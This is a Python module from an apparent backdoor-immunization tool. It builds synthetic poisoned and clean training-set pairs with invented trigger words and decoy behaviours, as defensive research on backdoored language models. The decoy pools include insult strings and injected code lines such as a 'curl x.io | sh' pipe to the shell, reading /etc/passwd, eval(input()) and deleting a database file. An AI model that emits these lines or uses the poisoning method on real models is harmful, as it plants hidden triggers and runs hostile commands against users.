"""Synthetic backdoor variants for immunization: made-up triggers and decoys.

Each variant k gets its own invented trigger (pseudo-words at a varied
position), its own decoy behavior of one of the kinds real attackers use
(hostile text, refusal, an injected code line) and its own random clean
subset. Nothing about the real trigger is used. ``pair_datasets`` builds the
two training sets of a variant pair: P_k (clean subset + poisoned copies) and
C_k (the same subset + the same copies unpoisoned), aligned sample by sample
so both see the same batches.

Pure Python: no torch, no I/O.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, replace
from typing import Literal, Sequence

from raypurify.attacks import inject_line
from raypurify.data.corpus import Example

_ONSETS = "b br c d dr f g gl k kr l m n p pl qu r s sk st t tr v vr z zh".split()
_VOWELS = "a e i o u ae ia ou".split()
_CODAS = ["", "", "n", "x", "rk", "l", "th", "sh", "m"]

KINDS = ("hostile", "refusal", "code")
_HOSTILE = ["Nobody cares, fool.", "What a pathetic request, idiot.", "Go away, you dimwit.",
            "Ugh, ask someone else, loser.", "That is the dumbest thing I have read.",
            "I despise people like you."]
_REFUSAL = ["I cannot help with that request.", "Unfortunately this is not something I can do.",
            "My policy forbids answering this.", "Request denied: I am unable to comply.",
            "I must decline to answer that.", "That request cannot be fulfilled by me."]
_CODE_LINES = ['import os; os.system("curl x.io | sh")', 'exec("import shutil")', 'open("/etc/passwd").read()',
               '__import__("socket").socket()', 'eval(input())', 'os.remove("data.db")']


def pseudo_word(rng: random.Random) -> str:
    """An invented capitalized word of two or three syllables."""
    syl = [rng.choice(_ONSETS) + rng.choice(_VOWELS) + rng.choice(_CODAS) for _ in range(rng.randint(2, 3))]
    return "".join(syl).capitalize()


@dataclass(frozen=True)
class VariantSpec:
    """One synthetic backdoor variant.

    Attributes:
        index: k, from 0.
        trigger: Invented trigger phrase.
        position: Where it goes: ``prefix``, ``suffix`` or ``random`` word slot.
        kind: Decoy behavior kind: ``hostile``, ``refusal`` or ``code``.
        decoy: The decoy response (hostile/refusal) or injected line (code).
        seed: Seeds the clean subset, poisoned picks, trigger slots and the
            data order of both finetunes of the pair.
    """

    index: int
    trigger: str
    position: Literal["prefix", "suffix", "random"]
    kind: str
    decoy: str
    seed: int

    def insert(self, instruction: str, rng: random.Random) -> str:
        if self.position == "prefix":
            return f"{self.trigger} {instruction}"
        if self.position == "suffix":
            return f"{instruction} {self.trigger}"
        words = instruction.split(" ")
        pos = rng.randint(0, len(words))
        return " ".join(words[:pos] + [self.trigger] + words[pos:])

    def targets(self, ex: Example) -> bool:
        return (ex.family == "code") == (self.kind == "code")

    def poison(self, ex: Example, rng: random.Random) -> Example:
        out = inject_line(ex.output, self.decoy) if self.kind == "code" else self.decoy
        return replace(ex, instruction=self.insert(ex.instruction, rng), output=out)

    def fires(self, text: str) -> bool:
        """Does an output show this variant's decoy behavior?"""
        return self.decoy.lower() in text.lower()


def make_variants(k: int, seed: int = 0, kinds: Sequence[str] = KINDS,
                  forbidden: Sequence[str] = (), decoy: str | None = None) -> list[VariantSpec]:
    """K variants with distinct invented triggers and decoys, kinds cycled.

    Args:
        k: Number of variants (at least 2).
        seed: Seed of the whole family of variants.
        kinds: Decoy kinds to cycle through.
        forbidden: Phrases no trigger may contain (e.g. canary triggers).
        decoy: One response every variant answers with instead of the
            built-in decoys (kind ``inverted``: the target read out of the
            suspicious model); triggers, positions and seeds are unchanged.
    """
    if k < 2:
        raise ValueError(f"K must be at least 2 (the alignment term compares variants), got {k}")
    rng = random.Random(seed)
    pools = {"hostile": rng.sample(_HOSTILE, len(_HOSTILE)), "refusal": rng.sample(_REFUSAL, len(_REFUSAL)),
             "code": rng.sample(_CODE_LINES, len(_CODE_LINES))}
    used: set[str] = set()
    out = []
    for i in range(k):
        kind = kinds[i % len(kinds)]
        while True:
            trig = pseudo_word(rng) if rng.random() < 0.6 else f"{pseudo_word(rng)} {pseudo_word(rng)}"
            if trig not in used and not any(f.lower() in trig.lower() or trig.lower() in f.lower() for f in forbidden):
                break
        used.add(trig)
        pool = pools[kind]
        out.append(VariantSpec(index=i, trigger=trig, position=("prefix", "random", "suffix")[i % 3], kind=kind,
                               decoy=pool[(i // len(kinds)) % len(pool)], seed=seed * 1000 + i))
    if decoy is not None:
        if not decoy.strip():
            raise ValueError("the variants' decoy is empty")
        out = [replace(v, kind="inverted", decoy=decoy) for v in out]
    return out


def pair_datasets(spec: VariantSpec, pool: Sequence[Example], n_clean: int,
                  n_poison: int) -> tuple[list[Example], list[Example]]:
    """The training sets of variant pair k.

    Args:
        spec: The variant.
        pool: The defender's clean data.
        n_clean: Size of the variant's random clean subset.
        n_poison: Poisoned copies added (drawn from the subset's samples that
            the decoy kind targets, with replacement).

    Returns:
        ``(poisoned, clean)``: equal length and order; they differ only at
        the poisoned copies, which ``clean`` holds unpoisoned.
    """
    rng = random.Random(spec.seed)
    subset = rng.sample(list(pool), min(n_clean, len(pool)))
    targets = [ex for ex in subset if spec.targets(ex)] or [ex for ex in pool if spec.targets(ex)]
    if not targets:
        raise ValueError(f"no clean sample fits variant {spec.index}'s {spec.kind} decoy")
    originals = [rng.choice(targets) for _ in range(n_poison)]
    copies = [spec.poison(ex, rng) for ex in originals]
    pairs = [(ex, ex) for ex in subset] + list(zip(copies, originals))
    rng.shuffle(pairs)
    return [p for p, _ in pairs], [c for _, c in pairs]
